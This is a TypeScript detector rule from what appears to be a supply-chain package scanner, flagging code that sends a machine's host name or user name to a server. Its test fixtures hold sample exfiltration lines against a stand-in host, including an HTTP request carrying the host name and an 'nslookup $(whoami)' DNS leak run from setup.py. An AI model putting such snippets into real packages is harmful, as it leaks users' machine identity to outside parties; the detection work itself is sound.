import { marks } from "../behaviour/marks.ts";
import { type Deed, deedsOf, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { Phase, SourceFile } from "../model.ts";
import { certainty } from "./_flow.ts";
import { codeWith, sight } from "./_sight.ts";

export const sendsHostFacts: Detector = {
  id: "sends-host-facts",
  title: "Sends the name of this machine or its user to a server",
  severity: "high",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `The host name, user name or network addresses of the machine reach a request, a DNS name or a socket. Dependency-confusion
probes do this at install to learn whose network they are in, and it is the first act of most remote-control programs.

Telemetry and error reports send host names as well, when somebody uses the library; there it counts little.`,
  literals: marks("host-fact"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("host-fact"))) {
      for (const flow of flowsBetween(file, ["host-fact"], ["upload", "http", "dns", "send"])) {
        const { source, sink } = flow;
        // Looking up one's own name tells nobody anything: what leaves is a name below a domain of somebody's.
        if (sink.act === "dns" && sink.command === undefined && !/\.[\w-]/.test(sink.text.replace(LOCAL, ""))) continue;
        if (onlyTellsSystems(file, source)) continue;
        const says = `what ${source.what} says about this machine is sent by ${sink.what} ${sink.text.slice(0, 100)}`;
        yield sight(file, sink.offset, says.trimEnd(), {
          phase: sink.phase,
          share: (sink.act === "dns" ? 1 : shareOf(sink.phase)) * certainty(file, flow),
        });
      }
      for (const { command, offset, text, phase } of deedsOf(file, "start")) {
        if (command === undefined || !command.asksHost || !command.sends) continue;
        yield sight(file, offset, `a command sends what it asks about this machine: ${text}`, {
          phase,
          // No service is asked that way: the command line has no other purpose, whoever calls it.
          share: Math.max(shareOf(phase), 0.98),
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import socket, requests\nname = socket.gethostname()\nrequests.get('http://example.invalid/?h=' + name)\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const os = require('os');\nconst d = { h: os.hostname() };\nfetch('http://example.invalid', { method: 'POST', body: JSON.stringify(d) });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import socket, requests\nlog(socket.gethostname())\nrequests.get('http://example.invalid/')\n",
        },
      },
      { ecosystem: "npm", files: { "a.js": "const os = require('os');\nconsole.log(os.hostname());\n" } },
    ],
    evasions: [
      { ecosystem: "pypi", files: { "setup.py": "import os\nos.system('nslookup $(whoami).example.invalid')\n" } },
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "from socket import *\nd = {}\nd['h'] = gethostname()\ngethostbyname(d['h'] + '.example.invalid')\n",
        },
      },
    ],
  },
};

/** Names that no public server answers for: RFC 6762, RFC 8375, RFC 6761. */
const LOCAL = /\.(?:local|localdomain|localhost|lan|home|home\.arpa|internal|test|invalid)\.?(?=\s|$)/g;

/** `uname` of which the file takes the machine, system or release, as downloads of native parts do, and never the name. */
function onlyTellsSystems({ text }: SourceFile, source: Deed): boolean {
  if (!/uname$/.test(source.what)) return false;
  const rest = text.slice(source.offset, source.offset + 200);
  if (
    /^[\w.]{0,60}uname\(\)\s{0,4}(?:\.\s{0,4}(?:machine|system|sysname|release|version|processor)\b|\[\s{0,4}(?:0|2|3|4|5|-1)\s{0,4}\])/.test(
      rest,
    )
  )
    return true;
  return /\.(?:machine|system|sysname|release|processor)\b/.test(text) && !/\bnode(?:name)?\b/.test(text);
}

function shareOf(phase: Phase): number {
  return phase === "install" || phase === "start" ? 1 : phase === "import" ? 0.9 : 0.3;
}
